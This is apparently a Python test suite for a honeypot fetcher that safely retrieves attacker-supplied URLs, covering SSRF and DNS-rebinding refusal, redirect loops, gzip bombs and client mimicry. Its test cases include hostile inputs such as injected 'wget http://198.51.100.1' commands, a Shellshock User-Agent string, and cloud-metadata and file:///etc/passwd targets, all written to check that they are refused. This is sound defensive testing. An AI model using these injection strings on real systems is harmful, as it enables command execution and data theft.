"""Fetching over HTTP from servers on loopback that are honest, hostile or broken."""

from __future__ import annotations

import asyncio
import datetime
import gzip
import hashlib
import shutil
import socket
import ssl
import struct
from pathlib import Path
from random import Random

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from urltrap.model.capture import Capture

from .conftest import Bench, answering, ok, redirect, serving, wget

PAYLOAD = b"#!/bin/sh\necho hello\n"


async def test_a_payload_is_fetched_and_kept_as_the_server_sent_it(bench: Bench) -> None:
    async with answering(ok(PAYLOAD, b"X-Server: a\xff\r\n")) as server:
        capture = await bench.fetcher().fetch(wget(server.url("/bins.sh?a=1")))
    assert (capture.outcome, capture.status, capture.reason, capture.complete) == (
        "fetched",
        200,
        b"OK",
        True,
    )
    assert capture.url == server.url("/bins.sh?a=1")
    assert capture.sha256 == hashlib.sha256(PAYLOAD).hexdigest()
    assert bench.body(capture) == PAYLOAD
    assert capture.address == "127.0.0.1"
    assert (b"X-Server", b"a\xff") in capture.headers
    assert [hop.status for hop in capture.hops] == [200]
    assert bench.captures == [capture]


@pytest.mark.parametrize(
    ("client", "agent", "lines"),
    [
        (
            "wget", "Wget/1.21.3",
            ["Host: 127.0.0.1:PORT", "User-Agent: Wget/1.21.3", "Accept: */*", "Accept-Encoding: identity",
             "Connection: Keep-Alive"],
        ),
        (
            "wget", "Wget/1.17.1 (linux-gnu)",
            ["User-Agent: Wget/1.17.1 (linux-gnu)", "Accept: */*", "Accept-Encoding: identity", "Host: 127.0.0.1:PORT",
             "Connection: Keep-Alive"],
        ),
        ("curl", "curl/7.88.1", ["Host: 127.0.0.1:PORT", "User-Agent: curl/7.88.1", "Accept: */*"]),
        ("busybox-wget", "Wget", ["Host: 127.0.0.1:PORT", "User-Agent: Wget", "Connection: close"]),
        (
            "urltrap", "",
            ["Host: 127.0.0.1:PORT", "User-Agent: Wget/1.21.3", "Accept: */*", "Accept-Encoding: identity",
             "Connection: Keep-Alive"],
        ),
    ],
)  # fmt: skip
async def test_the_request_is_the_one_that_the_attackers_client_sends(
    bench: Bench, client: str, agent: str, lines: list[str]
) -> None:
    async with answering(ok(b"x")) as server:
        await bench.fetcher().fetch(
            wget(server.url("/a/../b//c%41?x=%20&y="), client=client, user_agent=agent)
        )
        expected = [line.replace("PORT", str(server.port)) for line in lines]
    assert server.heads[0].decode().split("\r\n") == [
        "GET /a/../b//c%41?x=%20&y= HTTP/1.1",
        *expected,
        "",
        "",
    ]


async def test_only_harmless_headers_of_the_command_are_sent(bench: Bench) -> None:
    headers = [
        ("Accept", "text/x-sh"), ("Accept-Language", "de\r\nX-Injected: 1"), ("Cookie", "a=b"), ("Referer", "http://r/"),
        ("Authorization", "Basic eA=="), ("Host", "victim.example"), ("X-Forwarded-For", "198.51.100.1"),
        ("Transfer-Encoding", "chunked"), ("Content-Length", "5"), ("Range", "bytes=0-1"), ("Accept-Encoding", "gzip"),
    ]  # fmt: skip
    async with answering(ok(b"x")) as server:
        await bench.fetcher().fetch(wget(server.url(), client="curl", user_agent="curl/8.0", headers=headers))
    assert server.heads[0].decode().split("\r\n") == [
        "GET /x HTTP/1.1",
        f"Host: 127.0.0.1:{server.port}",
        "User-Agent: curl/8.0",
        "Accept: text/x-sh",
        "Accept-Language: deX-Injected: 1",
        "",
        "",
    ]


async def test_no_cookie_no_credential_and_no_referer_ever_leaves(bench: Bench) -> None:
    def reply(head: bytes) -> bytes:
        if b"/second" in head:
            return ok(b"done")
        return redirect(b"/second").replace(b"Location", b"Set-Cookie: id=1\r\nLocation")

    async with answering(reply) as server:
        url = server.url().replace("http://", "http://user:password@")
        await bench.fetcher().fetch(wget(url, username="u", password="p"))
    assert len(server.heads) == 2
    for head in server.heads:
        assert not any(
            word in head.lower() for word in (b"cookie", b"authorization", b"referer", b"password")
        )


async def test_an_environment_proxy_is_not_used(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("http_proxy", "http://127.0.0.1:9")
    monkeypatch.setenv("HTTP_PROXY", "http://127.0.0.1:9")
    async with answering(ok(b"x")) as server:
        assert (await bench.fetcher().fetch(wget(server.url()))).outcome == "fetched"


async def test_the_proxy_of_the_settings_gets_the_request_after_the_address_was_checked(bench: Bench) -> None:
    bench.names.answers = {"good.example.org": [["127.0.0.9"]], "bad.example.org": [["10.0.0.1"]]}
    async with answering(ok(b"by proxy")) as proxy:
        fetcher = bench.fetcher(proxy=f"http://127.0.0.1:{proxy.port}")
        capture = await fetcher.fetch(wget("http://good.example.org/x"))
        refused = await fetcher.fetch(wget("http://bad.example.org/x"))
        ftp = await fetcher.fetch(wget("ftp://good.example.org/x"))
    assert bench.body(capture) == b"by proxy"
    assert proxy.heads[0].startswith(b"GET http://good.example.org/x HTTP/1.1\r\nHost: good.example.org\r\n")
    assert refused.outcome == "refused-address"
    assert ftp.outcome == "recorded"
    assert proxy.connections == 1


async def test_an_error_page_is_kept_with_its_status(bench: Bench) -> None:
    async with answering(b"HTTP/1.0 404 Nope\r\n\r\ngone") as server:
        capture = await bench.fetcher().fetch(wget(server.url()))
    assert (capture.outcome, capture.status, capture.reason) == ("fetched", 404, b"Nope")
    assert bench.body(capture) == b"gone"


async def test_head_keeps_no_body(bench: Bench) -> None:
    async with answering(b"HTTP/1.1 200 OK\r\nContent-Length: 999\r\n\r\n") as server:
        capture = await bench.fetcher().fetch(wget(server.url(), method="HEAD"))
    assert (capture.outcome, capture.status, capture.sha256) == ("fetched", 200, None)
    assert server.heads[0].startswith(b"HEAD /x ")


async def test_redirects_are_followed_and_each_is_recorded(bench: Bench) -> None:
    def reply(head: bytes) -> bytes:
        if head.startswith(b"GET /a "):
            return redirect(b"b?x=1", 301)
        if head.startswith(b"GET /b?x=1 "):
            return redirect(b"//127.0.0.1:%d/c" % server.port, 307)
        return ok(PAYLOAD)

    async with answering(reply) as server:
        capture = await bench.fetcher().fetch(wget(server.url("/a")))
    assert capture.url == server.url("/a")
    assert [(hop.url, hop.status) for hop in capture.hops] == [
        (server.url("/a"), 301),
        (server.url("/b?x=1"), 307),
        (server.url("/c"), 200),
    ]
    assert bench.body(capture) == PAYLOAD


async def test_curl_without_L_gets_the_redirects_own_page(bench: Bench) -> None:
    reply = b"HTTP/1.1 302 Found\r\nLocation: /b\r\nContent-Length: 5\r\n\r\nmoved"
    async with answering(reply) as server:
        capture = await bench.fetcher().fetch(wget(server.url("/a"), client="curl", follow_redirects=False))
    assert (capture.outcome, capture.status, bench.body(capture)) == ("fetched", 302, b"moved")
    assert server.connections == 1


async def test_a_redirect_loop_ends_at_the_limit(bench: Bench) -> None:
    async with answering(redirect(b"/x")) as server:
        capture = await bench.fetcher(max_redirects=3).fetch(wget(server.url()))
    assert (capture.outcome, capture.status, len(capture.hops)) == ("too-many-redirects", 302, 4)
    assert server.connections == 4


@pytest.mark.parametrize(
    ("target", "outcome"),
    [
        ("http://169.254.169.254/latest/meta-data/", "refused-address"),
        ("http://[::ffff:127.0.0.1]:PORT/y", "refused-address"),
        ("http://[::1]:PORT/y", "refused-address"),
        ("http://[64:ff9b::7f00:1]/", "refused-address"),
        ("http://0xa9fea9fe/", "refused-address"),
        ("http://2852039166/", "refused-address"),
        ("http://0251.0376.0251.0376/", "refused-address"),
        ("http://10.1/", "refused-address"),
        ("http://localhost:PORT/y", "refused-address"),
        ("http://localhost.:PORT/y", "refused-address"),
        ("http://router/", "refused-address"),
        ("http://metadata.google.internal/", "refused-address"),
        ("http://example.org@10.0.0.1/", "refused-address"),
        ("http://example.org%2f@10.0.0.1/", "refused-address"),
        ("http://[fe80::1%25eth0]/", "bad-url"),
        ("file:///etc/passwd", "bad-url"),
        ("gopher://127.0.0.1:PORT/_x", "bad-url"),
        ("ldap://127.0.0.1:PORT/x", "bad-url"),
        ("tftp://127.0.0.1/x", "bad-url"),
        ("dict://127.0.0.1:PORT/x", "bad-url"),
        ("http://:80/", "bad-url"),
        ("/shell?cd+/tmp;wget+http://198.51.100.1/x", "withheld"),
    ],
)
async def test_a_redirect_is_checked_like_the_first_request(bench: Bench, target: str, outcome: str) -> None:
    async with answering(lambda _: redirect(target.replace("PORT", str(server.port)).encode())) as server:
        capture = await bench.fetcher().fetch(wget(server.url()))
    assert capture.outcome == outcome, capture
    assert capture.detail
    assert server.connections == 1
    assert capture.sha256 is None


@pytest.mark.parametrize(
    ("url", "outcome"),
    [
        ("http://10.0.0.1/x", "refused-address"),
        ("http://169.254.169.254/latest", "refused-address"),
        ("http://[::ffff:a9fe:a9fe]/", "refused-address"),
        ("http://0x7f.0.0.1/", "connect-failed"),  # canonical: 127.0.0.1, which this test lets in
        ("http://localhost/", "refused-address"),
        ("http://nosuch.example.org/", "dns-failure"),
        ("http://x.onion/", "dns-failure"),
        ("http://a..b/", "dns-failure"),
        ("http://[fe80::1%25eth0]/", "bad-url"),
        ("http://1.2.3.4:99999/", "bad-url"),
        ("gopher://127.0.0.1/", "bad-url"),
        ("ssh://127.0.0.1/", "bad-url"),
        ("http:///", "bad-url"),
        ("http://127.0.0.1/" + "a" * 9000, "bad-url"),
        ("http://127.0.0.1:25/x", "withheld"),
        ("tftp://127.0.0.1:53/x", "withheld"),
        ("http://127.0.0.1/x?cmd=;wget+http://198.51.100.1/a", "withheld"),
    ],
)
async def test_what_must_not_be_contacted_is_refused_with_a_reason(
    bench: Bench, url: str, outcome: str
) -> None:
    capture = await bench.fetcher().fetch(wget(url))
    assert capture.outcome == outcome, capture
    assert capture.detail
    assert bench.captures == [capture]


async def test_an_exploit_in_the_user_agent_is_withheld(bench: Bench) -> None:
    async with answering(ok(b"x")) as server:
        capture = await bench.fetcher().fetch(wget(server.url("/cgi-bin/s"), user_agent="() { :; }; /bin/id"))
    assert (capture.outcome, server.connections) == ("withheld", 0)


async def test_a_name_that_resolves_to_an_inner_address_is_refused(bench: Bench) -> None:
    bench.names.answers = {"evil.example.org": [["10.0.0.1", "fd00::1"]]}
    capture = await bench.fetcher().fetch(wget("http://evil.example.org/"))
    assert capture.outcome == "refused-address"
    assert "10.0.0.1" in capture.detail


async def test_of_a_names_addresses_only_the_allowed_ones_are_used(bench: Bench) -> None:
    bench.names.answers = {"mixed.example.org": [["10.0.0.1", "127.0.0.1"]]}
    async with answering(ok(b"x")) as server:
        capture = await bench.fetcher().fetch(wget(server.url(host="mixed.example.org")))
    assert (capture.outcome, capture.address) == ("fetched", "127.0.0.1")
    assert server.heads[0].split(b"\r\n")[1] == b"Host: mixed.example.org:%d" % server.port


async def test_dns_rebinding_does_not_change_the_address_that_was_checked(bench: Bench) -> None:
    # The first answer is "public" (let in), every later one is an inner address; the name is asked for once.
    bench.names.answers = {"rebind.example.org": [["127.0.0.2"], ["127.0.0.1"]]}
    async with (
        answering(ok(b"inner"), host="127.0.0.1") as inner,
        answering(ok(b"public"), host="127.0.0.2") as public,
    ):
        fetcher = bench.fetcher(public=["127.0.0.2/32"])
        capture = await fetcher.fetch(wget(public.url(host="rebind.example.org.")))
        assert (capture.outcome, capture.address) == ("fetched", "127.0.0.2")
        assert bench.body(capture) == b"public"
        assert bench.names.asked == ["rebind.example.org"]
        again = await fetcher.fetch(wget(inner.url(host="rebind.example.org")))
    assert again.outcome == "refused-address"
    assert inner.connections == 0


async def test_rebinding_between_redirects_is_refused(bench: Bench) -> None:
    bench.names.answers = {"rebind.example.org": [["127.0.0.2"], ["127.0.0.1"]]}
    async with answering(redirect(b"/again"), host="127.0.0.2") as server:
        capture = await bench.fetcher(public=["127.0.0.2/32"]).fetch(
            wget(server.url(host="rebind.example.org"))
        )
    assert (capture.outcome, server.connections) == ("refused-address", 1)


async def test_the_next_address_is_tried_where_one_does_not_answer(bench: Bench) -> None:
    bench.names.answers = {"two.example.org": [["127.0.0.3", "127.0.0.1"]]}
    async with answering(ok(b"x")) as server:
        capture = await bench.fetcher().fetch(wget(server.url(host="two.example.org")))
    assert (capture.outcome, capture.address) == ("fetched", "127.0.0.1")


async def test_an_infinite_body_is_cut_and_its_beginning_kept(bench: Bench) -> None:
    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.0 200 OK\r\n\r\n")
        while True:
            writer.write(b"A" * 65_536)
            await writer.drain()

    async with serving(handle) as server:
        capture = await bench.fetcher(max_bytes=100_001).fetch(wget(server.url()))
        await server.closed.wait()
    assert (capture.outcome, capture.size, capture.complete) == ("too-large", 100_001, False)
    assert bench.body(capture) == b"A" * 100_001


async def test_a_body_of_exactly_the_limit_is_whole(bench: Bench) -> None:
    async with answering(ok(b"A" * 1000)) as server:
        capture = await bench.fetcher(max_bytes=1000).fetch(wget(server.url()))
    assert (capture.outcome, capture.size, capture.complete) == ("fetched", 1000, True)


async def test_a_slow_body_ends_at_the_time_limit_and_what_came_is_kept(bench: Bench) -> None:
    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.0 200 OK\r\n\r\nbeginning")
        await writer.drain()
        await asyncio.Event().wait()

    async with serving(handle) as server:
        capture = await bench.fetcher(total_seconds=0.3).fetch(wget(server.url()))
    assert (capture.outcome, capture.status, capture.complete) == ("timed-out", 200, False)
    assert bench.body(capture) == b"beginning"


async def test_a_slow_loris_that_never_ends_its_head_is_left(bench: Bench) -> None:
    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\nX: ")
        await writer.drain()
        await asyncio.Event().wait()

    async with serving(handle) as server:
        capture = await bench.fetcher(total_seconds=0.3).fetch(wget(server.url()))
    assert (capture.outcome, capture.status, capture.sha256) == ("timed-out", None, None)


async def test_a_gzip_bomb_is_kept_packed(bench: Bench) -> None:
    bomb = gzip.compress(bytes(50_000_000))
    async with answering(ok(bomb, b"Content-Encoding: gzip\r\n")) as server:
        capture = await bench.fetcher(max_bytes=1_000_000).fetch(wget(server.url()))
    assert (capture.outcome, capture.complete) == ("fetched", True)
    assert bench.body(capture) == bomb


async def test_a_chunked_body_is_put_together(bench: Bench) -> None:
    reply = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n2\r\nde\r\n0\r\n\r\n"
    async with answering(reply) as server:
        capture = await bench.fetcher().fetch(wget(server.url()))
    assert bench.body(capture) == b"abcde"


async def test_a_body_shorter_than_announced_is_kept_as_incomplete(bench: Bench) -> None:
    async with answering(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\nshort") as server:
        capture = await bench.fetcher().fetch(wget(server.url()))
    assert (capture.outcome, capture.complete, bench.body(capture)) == ("fetched", False, b"short")
    assert "ended early after 5 bytes" in capture.detail


async def test_a_reset_in_the_middle_of_the_body_keeps_what_came(bench: Bench) -> None:
    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n" + b"B" * 5000)
        await writer.drain()
        writer.get_extra_info("socket").setsockopt(
            socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)
        )
        writer.reset = True  # type: ignore[attr-defined]

    async with serving(handle) as server:
        capture = await bench.fetcher().fetch(wget(server.url()))
    assert capture.complete is False
    assert capture.outcome in ("fetched", "connect-failed")  # the kernel may drop everything with the reset


@pytest.mark.parametrize(
    "reply",
    [
        b"HTTP/9.9 abc\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nX-Huge: " + b"h" * 200_000 + b"\r\n\r\n",
        b"HTTP/1.1 200 OK\r\n" + b"".join(b"X-%d: y\r\n" % n for n in range(5000)) + b"\r\n",
    ],
    ids=["version", "length", "huge-header", "many-headers"],
)
async def test_what_is_not_http_is_a_protocol_error(bench: Bench, reply: bytes) -> None:
    async with answering(reply) as server:
        capture = await bench.fetcher().fetch(wget(server.url()))
    assert capture.outcome == "protocol-error", capture
    assert capture.detail.isprintable()
    assert len(capture.detail) < 400


async def test_a_server_that_says_nothing_is_a_failed_connection(bench: Bench) -> None:
    async with answering(b"") as server:
        capture = await bench.fetcher().fetch(wget(server.url()))
    assert capture.outcome == "connect-failed"


async def test_a_closed_port_is_a_failed_connection(bench: Bench) -> None:
    async with answering(b"") as server:
        url = server.url()
    capture = await bench.fetcher().fetch(wget(url))
    assert (capture.outcome, capture.address) == ("connect-failed", "127.0.0.1")


def _certificate(folder: Path) -> tuple[ssl.SSLContext, str]:
    """An expired, self-signed certificate for another name, and its SHA-256."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "somebody-else.example")])
    then = datetime.datetime(2001, 1, 1, tzinfo=datetime.UTC)
    built = x509.CertificateBuilder(name, name, key.public_key(), 7, then, then + datetime.timedelta(days=1))
    certificate = built.sign(key, hashes.SHA256())
    pem = certificate.public_bytes(serialization.Encoding.PEM) + key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    path = folder / "server.pem"
    path.write_bytes(pem)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(path)
    return context, hashlib.sha256(certificate.public_bytes(serialization.Encoding.DER)).hexdigest()


async def test_a_bad_certificate_is_accepted_and_recorded(bench: Bench, tmp_path: Path) -> None:
    context, digest = _certificate(tmp_path)
    async with answering(ok(PAYLOAD), ssl=context) as server:
        capture = await bench.fetcher().fetch(wget(server.url().replace("http:", "https:")))
    assert (capture.outcome, capture.tls_certificate_sha256) == ("fetched", digest)
    seen = capture.certificate
    assert seen is not None and seen.sha256 == digest
    assert seen.subject == seen.issuer and seen.subject.startswith("CN=")
    assert seen.not_before is not None and seen.not_after is not None
    assert seen.not_before < seen.not_after < datetime.datetime.now(datetime.UTC)
    assert bench.body(capture) == PAYLOAD


async def test_a_server_without_tls_is_a_tls_failure(bench: Bench) -> None:
    async with serving(_plain) as server:
        capture = await bench.fetcher().fetch(wget(server.url().replace("http:", "https:")))
    assert capture.outcome == "tls-failed"


async def _plain(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await reader.read(10)
    writer.write(b"HTTP/1.1 400 Bad Request\r\n\r\n")
    await writer.drain()


@pytest.mark.parametrize(
    ("client", "command"),
    [
        ("wget", ["wget", "-q", "-O", "-"]),
        ("curl", ["curl", "-s"]),
        ("busybox-wget", ["busybox", "wget", "-q", "-O", "-"]),
    ],
)
async def test_our_request_is_byte_for_byte_that_of_the_real_client(
    bench: Bench, client: str, command: list[str]
) -> None:
    if shutil.which(command[0]) is None:
        pytest.skip(f"{command[0]} is not on this machine")
    async with answering(ok(b"x")) as server:
        real = await asyncio.create_subprocess_exec(
            *command, server.url("/a.sh?b=1"), stdout=asyncio.subprocess.PIPE
        )
        output, _ = await real.communicate()
        assert (output, real.returncode) == (b"x", 0)
        agent = next(line for line in server.heads[0].split(b"\r\n") if line.startswith(b"User-Agent: "))[12:]
        request = wget(server.url("/a.sh?b=1"), client=client, user_agent=agent.decode())
        assert (await bench.fetcher().fetch(request)).outcome == "fetched"
    assert server.heads[1] == server.heads[0]


async def test_https_goes_through_the_proxys_tunnel(bench: Bench, tmp_path: Path) -> None:
    context, digest = _certificate(tmp_path)
    bench.names.answers = {"good.example.org": [["127.0.0.9"]]}
    asked: list[bytes] = []

    async with answering(ok(PAYLOAD), ssl=context) as target:

        async def tunnel(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            asked.append(await reader.readuntil(b"\r\n\r\n"))
            far_reader, far_writer = await asyncio.open_connection("127.0.0.1", target.port)
            writer.write(b"HTTP/1.1 200 Connected\r\n\r\n")
            try:
                await asyncio.gather(_copy(reader, far_writer), _copy(far_reader, writer))
            finally:
                far_writer.transport.abort()

        async with serving(tunnel) as proxy:
            fetcher = bench.fetcher(proxy=f"http://127.0.0.1:{proxy.port}")
            capture = await fetcher.fetch(wget("https://good.example.org/x"))
    assert asked[0].startswith(b"CONNECT good.example.org:443 HTTP/1.1\r\n")
    assert (capture.outcome, capture.tls_certificate_sha256, bench.body(capture)) == (
        "fetched",
        digest,
        PAYLOAD,
    )
    assert target.heads[0].startswith(
        b"GET /x HTTP/1.1\r\nHost: good.example.org\r\nUser-Agent: Wget/1.21.3\r\n"
    )


async def _copy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while data := await reader.read(65_536):
        writer.write(data)
        await writer.drain()
    writer.close()


async def test_a_proxy_that_refuses_is_a_failed_connection(bench: Bench) -> None:
    bench.names.answers = {"good.example.org": [["127.0.0.9"]]}
    async with answering(b"HTTP/1.1 403 No\r\nContent-Length: 0\r\n\r\n") as proxy:
        fetcher = bench.fetcher(proxy=f"http://127.0.0.1:{proxy.port}")
        assert (await fetcher.fetch(wget("https://good.example.org/x"))).outcome == "connect-failed"


@pytest.mark.parametrize(
    "reply",
    [b"\x7fELF" + bytes(200), b"#!/bin/sh\nexit 0\n", b"x", b"HT", b"\r\n\r\n", b"SSH-2.0-OpenSSH_9.2\r\n"],
    ids=["elf", "script", "one-byte", "beginning-of-http", "empty-lines", "ssh"],
)
async def test_an_answer_without_a_status_line_is_the_file_as_wget_takes_it(
    bench: Bench, reply: bytes
) -> None:
    async with answering(reply) as server:
        capture = await bench.fetcher().fetch(wget(server.url()))
    assert (capture.outcome, capture.status, capture.headers) == ("fetched", 200, [])
    assert "HTTP/0.9" in capture.detail and bench.body(capture) == reply
    assert server.connections == 1


async def test_a_dropper_that_sends_before_it_is_asked_is_captured(bench: Bench) -> None:
    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        for piece in (b"\x7f", b"EL", b"F" + b"m" * 100_000):
            writer.write(piece)
            await writer.drain()

    async with serving(handle) as server:
        capture = await bench.fetcher().fetch(wget(server.url()))
    assert (capture.outcome, capture.size, capture.complete) == ("fetched", 100_004, True)


async def test_curl_refuses_an_answer_without_a_status_line_and_its_bytes_are_kept(bench: Bench) -> None:
    async with answering(b"\x7fELF payload") as server:
        capture = await bench.fetcher().fetch(wget(server.url(), client="curl", user_agent="curl/7.88.1"))
    assert capture.outcome == "protocol-error"
    assert bench.body(capture) == b"\x7fELF payload"


async def test_nothing_at_all_is_no_file(bench: Bench) -> None:
    async with answering(b"") as server:
        capture = await bench.fetcher().fetch(wget(server.url()))
    assert (capture.outcome, capture.sha256) == ("connect-failed", None)


async def test_a_probe_asks_for_one_byte_and_keeps_none(bench: Bench) -> None:
    async with answering(ok(b"whole file")) as server:
        capture = await bench.fetcher().fetch(wget(server.url(), probe=True, purpose="recheck"))
    assert b"Range: bytes=0-0\r\n" in server.heads[0]
    assert (capture.outcome, capture.status, capture.sha256, capture.purpose) == (
        "fetched",
        200,
        None,
        "recheck",
    )


async def test_addresses_and_moments_of_an_answer_are_recorded(bench: Bench) -> None:
    bench.names.answers["two.example"] = [["127.0.0.1", "10.0.0.1"]]
    async with answering(ok(b"x")) as server:
        capture = await bench.fetcher().fetch(wget(server.url(host="two.example")))
    assert (capture.address, capture.addresses) == ("127.0.0.1", ["127.0.0.1", "10.0.0.1"])
    assert capture.connected_ms is not None and capture.answered_ms is not None
    assert 0 <= capture.connected_ms <= capture.answered_ms <= capture.elapsed_ms


async def test_whatever_a_server_sends_ends_in_a_capture(bench: Bench) -> None:
    random = Random(7)
    seeds = [
        ok(b"body" * 50),
        redirect(b"/next?x=1"),
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\n0\r\n\r\n",
        b"HTTP/1.1 301 Moved\r\nLocation: http://127.0.0.1:PORT/\xc3\xa9?\xff\r\nSet-Cookie: a=b\r\n\r\n",
        b"HTTP/1.1 100 Continue\r\n\r\n" + ok(b"late"),
    ]

    def reply(_: bytes) -> bytes:
        mutated = bytearray(random.choice(seeds).replace(b"PORT", str(server.port).encode()))
        for _ in range(random.randrange(6)):
            place = random.randrange(len(mutated))
            match random.randrange(3):
                case 0:
                    mutated[place] = random.randrange(256)
                case 1:
                    del mutated[place : place + random.randrange(1, 9)]
                case _:
                    mutated[place:place] = random.choice(
                        [b"\r\n", b"\0", b"\xff", b": ", b"9" * 30, b"HTTP/1.1"]
                    )
        return bytes(mutated)

    async with answering(reply) as server:
        fetcher = bench.fetcher(per_host_per_minute=10_000, total_per_minute=10_000, total_seconds=2)
        captures = [await fetcher.fetch(wget(server.url(f"/{n}"), for_session=str(n))) for n in range(150)]
    outcomes = {capture.outcome for capture in captures}
    assert {"fetched", "protocol-error"} <= outcomes
    for capture in captures:
        assert Capture.model_validate_json(capture.model_dump_json()) == capture
        assert capture.detail.isprintable()
